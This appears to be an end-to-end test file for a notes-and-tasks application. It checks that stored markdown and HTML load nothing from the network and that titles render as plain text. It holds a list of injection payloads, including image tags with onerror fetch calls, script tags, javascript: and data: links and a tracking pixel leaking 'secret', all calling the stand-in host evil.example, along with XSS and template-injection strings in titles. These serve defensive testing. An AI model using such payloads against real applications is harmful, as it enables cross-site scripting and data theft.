import { expect, test } from './app.ts';
import { Desk } from './desk.ts';

/** Markdown that would load something, run something or lead somewhere, were it believed. */
const attacks = [
  '![pixel](https://evil.example/pixel.png?note=secret)',
  '![pixel](//evil.example/pixel.png)',
  '<img src="https://evil.example/img.png" onerror="fetch(\'https://evil.example/run\')">',
  '<script>fetch("https://evil.example/script")</script>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  '<style>@import url(https://evil.example/import.css);</style>',
  '<div style="background:url(https://evil.example/background.png)">text</div>',
  '<video src="https://evil.example/video.mp4" autoplay></video>',
  '<object data="https://evil.example/object"></object>',
  '<svg><image href="https://evil.example/svg.png"/></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<base href="https://evil.example/">',
  '[link](javascript:fetch("https://evil.example/link"))',
  '[link](data:text/html,<script>fetch("https://evil.example/data")</script>)',
  '[reference]: https://evil.example/reference "title"',
  '![reference][reference]',
  '<https://evil.example/autolink>',
].join('\n\n');

// That nothing was asked of the network is checked at the end of every test, in the fixture. Here it is what matters.

test('a note with every kind of embedded address loads nothing', async ({ app }) => {
  const marta = new Desk(app);
  const note = await app.call('notes.create', { title: 'Attack', content: attacks });
  await marta.goTo('Notes');
  await marta.openNote('Attack');
  await expect(marta.noteText).toContainText('autolink');
  expect(await app.outsideRequests()).toEqual([]);
  expect(await app.call('notes.get', { id: note.id })).toMatchObject({ content: attacks });
});

test('a task, a comment and a project with the same text load nothing', async ({ app }) => {
  const marta = new Desk(app);
  const project = await app.call('projects.create', { name: 'Attack', description: attacks });
  const task = await app.call('tasks.create', { title: 'Attack', description: attacks, projectId: project.id });
  await app.call('comments.create', { taskId: task.id, body: attacks });
  await marta.openProject('Attack');
  await marta.goTo('Tasks');
  await marta.task('Attack').click();
  await expect(marta.page.getByText('autolink').first()).toBeVisible();
  expect(await app.outsideRequests()).toEqual([]);
});

test('titles are text, whatever they hold', async ({ app }) => {
  const marta = new Desk(app);
  const title = '<img src=x onerror=alert(1)> {{constructor}} ${7*7} \u202Etfel-ot-thgir\u202C';
  await app.call('clients.create', { name: title });
  await app.call('tasks.create', { title });
  await app.call('notes.create', { title, content: title });
  for (const screen of ['Home', 'Tasks', 'Projects', 'Notes'] as const) {
    await marta.goTo(screen);
    await expect(marta.main.getByText('<img src=x onerror=alert(1)>', { exact: false }).first()).toBeVisible();
  }
});

test('the window has no way out but the bridge', async ({ app, hostName }) => {
  const found = await app.page.evaluate(async () => {
    // What a test evaluates may do what the policy denies to the page; what comes later is the page's own.
    await new Promise((resolve) => setTimeout(resolve));
    const attempt = async (work: () => unknown): Promise<string> => {
      try {
        await work();
        return 'allowed';
      } catch {
        return 'denied';
      }
    };
    return {
      // Indirect, so that the policy and not the compiler has the say.
      evaluation: await attempt(() => Reflect.apply(Function, undefined, ['return 1'])),
      request: await attempt(() => fetch('https://evil.example/')),
      node: [typeof Reflect.get(window, 'require'), typeof Reflect.get(window, 'process')],
      bridge: window.adiuva === undefined ? null : Object.keys(window.adiuva),
    };
  });
  expect(found).toEqual({
    evaluation: 'denied',
    request: 'denied',
    node: ['undefined', 'undefined'],
    bridge: hostName === 'browser-host' ? null : ['send', 'onMessage'],
  });
  // The two attempts broke the policy, as they should have.
  expect(app.faults.splice(0).length).toBeGreaterThan(0);
});
